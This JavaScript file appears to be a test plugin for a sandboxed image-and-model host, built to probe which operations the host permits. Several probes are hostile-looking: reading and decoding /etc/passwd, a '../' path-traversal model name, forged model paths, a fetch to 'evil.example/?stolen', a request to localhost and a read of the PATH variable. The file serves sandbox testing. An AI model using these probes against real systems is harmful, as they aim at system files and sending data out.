/** A pack that asks its host for what it may and for what it may not, and says what came of it. */

const digest = `sha256:${"0".repeat(64)}`;
const gift = (context, text) => ({ name: "gift", extension: "txt", digest, bytes: Buffer.from(text) });
const of = ({ signal }) => ({ signal });
const zeros = (context, ...shape) =>
  context.tensor("f32", shape, new Uint8Array(4 * shape.reduce((a, b) => a * b, 1)));

const ways = {
  "read the chosen file": async ({ photo }, { read }) => Buffer.from(await read(photo)).toString(),
  "read another file": (_, { read }) => read({ file: "/etc/passwd" }),
  "decode another file": (_, { picture, signal }) =>
    picture.read({ name: "x", path: "/etc/passwd", digest }, { signal }),
  blur: async (_, context) =>
    (await context.picture.apply("blur", [zeros(context, 4, 4, 3)], { radius: 1 }, of(context))).shape.join(),
  "blur by a word": (_, context) =>
    context.picture.apply("blur", [zeros(context, 4, 4, 3)], { radius: "wide" }, of(context)),
  "paint by a name of every object": (_, context) =>
    context.picture.apply("constructor", [zeros(context, 4, 4, 3)], {}, of(context)),
  "run its model": async (_, context) => {
    const model = await context.own("models/double.onnx");
    const x = context.tensor("f32", [1, 2], new Uint8Array(Float32Array.of(3, 4).buffer));
    const { y } = await context.backend.infer(model, { x }, of(context));
    const bytes = await y.bytes();
    return new Float32Array(bytes.buffer, bytes.byteOffset, 2).join();
  },
  "run a model without an end": async (_, context) =>
    context.backend.infer(await context.own("models/endless.onnx"), { x: zeros(context, 1) }, of(context)),
  "run a model with weights elsewhere": async (_, context) =>
    context.backend.infer(await context.own("models/elsewhere.onnx"), {}, of(context)),
  "run a file outside": (_, context) =>
    context.backend.infer({ name: "../../../../etc/passwd", path: "/etc/passwd", digest }, {}, of(context)),
  "look at a model's path": ({ vae }) => `${vae.path} ${vae.part}`,
  "make up a model": ({ vae }, context) =>
    context.backend.decode({ ...vae, path: "/home" }, zeros(context, 4, 2, 2), of(context)),
  "ask a host": async (_, { fetch }) => {
    const headers = { authorization: ["Bearer ", { environment: "ACME_KEY" }] };
    const { status, bytes } = await fetch("https://api.acme.example/", { headers });
    return `${status} ${Buffer.from(bytes).toString()}`;
  },
  "ask another host": (_, { fetch }) => fetch("https://evil.example/?stolen"),
  "ask this computer": (_, { fetch }) => fetch("https://127.0.0.1/"),
  "ask for another variable": (_, { fetch }) =>
    fetch("https://api.acme.example/", { headers: { a: [{ environment: "PATH" }] } }),
  "write a gift": (_, context) => context.write(gift(context, "x")),
};

const tries = (type, effect) => ({
  ...{ type: `asker/${type}`, version: 1, title: type, about: "Tries.", effect, inputs: {}, outputs: {} },
  run: async (values, context) => {
    try {
      return { said: String(await ways[values.what](values, context)) };
    } catch (error) {
      return { said: `${error.name}: ${error.message}` };
    }
  },
});

export default {
  prefix: "asker",
  nodes: [
    tries("tries", "pure"),
    tries("writes", "writes"),
    { ...tries("forges", "pure"), run: ({ vae }) => ({ vae: { ...vae, path: "/etc" } }) },
    { ...tries("hands-on", "pure"), run: ({ vae }) => ({ vae }) },
  ],
};
